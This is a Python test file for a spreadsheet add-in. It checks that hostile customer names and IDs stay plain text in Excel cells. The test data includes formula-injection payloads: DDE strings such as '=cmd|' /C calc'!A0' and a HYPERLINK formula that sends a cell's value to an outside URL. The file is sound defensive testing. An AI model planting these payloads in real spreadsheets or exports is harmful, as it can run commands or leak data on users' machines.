"""Issue 23 item 2: text stays text in the live engine.

Range.Value parses a string as if typed: "=…", "+…", "-…", "@…" become formulas (or a DDE call),
"007" the number 7. The strict fake (tests/fake_xlwings.py) applies that rule; every ribbon button
is replayed on a workbook whose customers have hostile names, IDs and phones, and must give what
the file engine gives, with no formula anywhere and the next harvest still matching."""
from __future__ import annotations

import datetime as dt
import shutil

import pytest
from fake_xlwings import FakeBook, FakeFormula, excel_input
from python_calamine import CalamineWorkbook

from addin import jobs, ribbon
from addin.actions import ACTIONS
from addin.build.demo_data import generate
from addin.build.workbook import build_workbook
from addin.io.xlsx_book import XlsxBook
from addin.steps import AGING, CALLS, GRADES

AS_OF = dt.date(2026, 11, 24)
NAMES = ['=HYPERLINK("http://example.com/?"&A1,"点我")', "=cmd|' /C calc'!A0", "@SUM(1,2)", "+1+1",
         "-2+3", "007", "2026-01-02", "TRUE"]
ID_FORMS = ["={n}+1", "00{n}", "+{n}", "@{n}", "-{n}", "0{n}", "=cmd|' /C calc'!A{n}", "{n}"]
PHONES = ["0123456789", "+8613800138000", "013800138000", "010-12345678"]


def test_the_fake_parses_input_as_excel_does():
    assert isinstance(excel_input("=1+1", None), FakeFormula)
    assert isinstance(excel_input("=cmd|' /C calc'!A0", "General"), FakeFormula)
    assert isinstance(excel_input("@SUM(1,2)", None), FakeFormula)
    assert isinstance(excel_input("+1+1", None), FakeFormula)
    assert excel_input("007", None) == 7 and excel_input("0123456789", None) == 123456789
    assert excel_input("-12", None) == -12 and excel_input("5%", None) == 0.05
    assert excel_input("2026-01-02", None) == dt.datetime(2026, 1, 2) and excel_input("TRUE", None) is True
    # a leading apostrophe: text, without the apostrophe
    assert excel_input("'=1+1", None) == "=1+1" and excel_input("'007", None) == "007"
    # a cell formatted "@": stored as written, an apostrophe included
    assert excel_input("=1+1", "@") == "=1+1" and excel_input("007", "@") == "007"
    assert excel_input("'007", "@") == "'007"
    assert excel_input("郑州德润", None) == "郑州德润"


def hostile_book(tmp_path, n=40):
    data = generate(n, as_of=AS_OF, seed=3, invoices=2 * n, contacts=2 * n)
    ids = {}
    for i, c in enumerate(data["customers"]):
        ids[c["customer_id"]] = ID_FORMS[i % len(ID_FORMS)].format(n=100 + i)
        c["name"] = NAMES[i % len(NAMES)] + ("" if i < len(NAMES) else f" {i}")
        c["phone"] = PHONES[i % len(PHONES)]
    for rows in data.values():
        for row in rows:
            if row.get("customer_id") in ids:
                row["customer_id"] = ids[row["customer_id"]]
    path = build_workbook(tmp_path / "hostile.xlsx", data=data, settings={"as_of": AS_OF})
    return path, set(ids.values())


def _norm(grid):
    def norm(v):
        if isinstance(v, dt.datetime):
            return v.date()
        if isinstance(v, float):
            return round(v, 9)
        return None if v == "" else v
    rows = [[norm(v) for v in row] for row in grid]
    while rows and all(v is None for v in rows[-1]):
        rows.pop()
    width = max((max((i + 1 for i, v in enumerate(r) if v is not None), default=0) for r in rows), default=0)
    return [r[:width] + [None] * (width - len(r)) for r in rows]


def no_formulas(book):
    found = [(s.name, k, v) for s in book.sheets for k, v in s.cells.items() if isinstance(v, FakeFormula)]
    assert not found, found[:5]
    assert not [c for c in book.log if c[0] == "formula"]


def test_raw_hostile_text_would_become_formulas_in_the_fake(tmp_path):
    """The fake is strict: the same cells written without the add-in's care turn into formulas."""
    path, _ = hostile_book(tmp_path, 8)
    book = FakeBook(path)
    sheet = book.sheets["今日拨打"]
    sheet.range((3, 1), (3, 3)).value = [["=1+1", "007", "@SUM(1,2)"]]
    assert isinstance(sheet.cells[(3, 1)], FakeFormula) and sheet.cells[(3, 2)] == 7
    assert isinstance(sheet.cells[(3, 3)], FakeFormula)


@pytest.mark.parametrize("action, steps", [("validate", None), ("grades", (GRADES,)),
                                           ("calls", (GRADES, CALLS)), ("aging", (AGING,))])
def test_every_button_keeps_hostile_text_as_text(tmp_path, action, steps):
    path, ids = hostile_book(tmp_path)
    copy = tmp_path / "headless.xlsx"
    shutil.copy(path, copy)
    headless = XlsxBook(copy)
    result = jobs.validate(headless) if steps is None else jobs.refresh(headless, steps=steps)
    jobs.apply(headless, result.plan)
    book = FakeBook(path)
    assert ribbon.dispatch(action, book), book.app.alerts
    no_formulas(book)
    wb = CalamineWorkbook.from_path(str(copy))
    for sheet in book.sheets:
        assert _norm(sheet.grid()) == _norm(wb.get_sheet_by_name(sheet.name).to_python(skip_empty_area=False)), \
            sheet.name
    written = {v for s in book.sheets for k, v in s.cells.items() if k in s.written and isinstance(v, str)}
    if action in ("calls", "aging"):
        # the output lists carry the hostile IDs as the text they are (leading zeros kept)
        shown = ids & written
        assert any(i.startswith("0") for i in shown) and any(i[0] in "=+-@" for i in shown), shown


def test_credit_form_and_export_with_a_hostile_customer(tmp_path):
    path, ids = hostile_book(tmp_path)
    book = FakeBook(path)
    survey = book.sheets["信用调查"]
    cid = survey.cells[(2, 1)]
    assert cid in ids
    book.select("信用调查", 2, 3)
    assert ribbon.dispatch("credit_form", book), book.app.alerts
    assert ribbon.dispatch("export_aging", book), book.app.alerts
    no_formulas(book)
    form = [v for row in book.sheets["授信申请"].grid() for v in row]
    assert cid in form


def test_every_button_then_the_harvest_matches_hostile_ids(tmp_path):
    path, ids = hostile_book(tmp_path)
    book = FakeBook(path)
    for action in ACTIONS:
        if action == "credit_form":
            book.select("信用调查", 2, 1)
        assert ribbon.dispatch(action, book), (action, book.app.alerts)
    no_formulas(book)
    calls = book.sheets["今日拨打"]
    grid = calls.grid()
    header = next(r for r, row in enumerate(grid) if "客户编号" in row)
    cid_col, outcome_col = grid[header].index("客户编号"), grid[header].index("结果")
    listed = [(r, row[cid_col]) for r, row in enumerate(grid) if r > header and row[cid_col] is not None]
    assert listed and all(isinstance(cid, str) and cid in ids for _, cid in listed)
    # the rep types a result for every listed customer (plain words, as typed in Excel)
    for r, _ in listed:
        calls.range((r + 1, outcome_col + 1)).value = "已联系"
    log = book.sheets["联系记录"]
    before = max(r for r, _ in log.cells)
    assert ribbon.dispatch("calls", book), book.app.alerts
    no_formulas(book)
    after = log.grid()[before:]
    harvested = [row[1] for row in after if row and row[1] is not None]
    assert sorted(harvested) == sorted(cid for _, cid in listed)
    assert all(isinstance(cid, str) for cid in harvested)
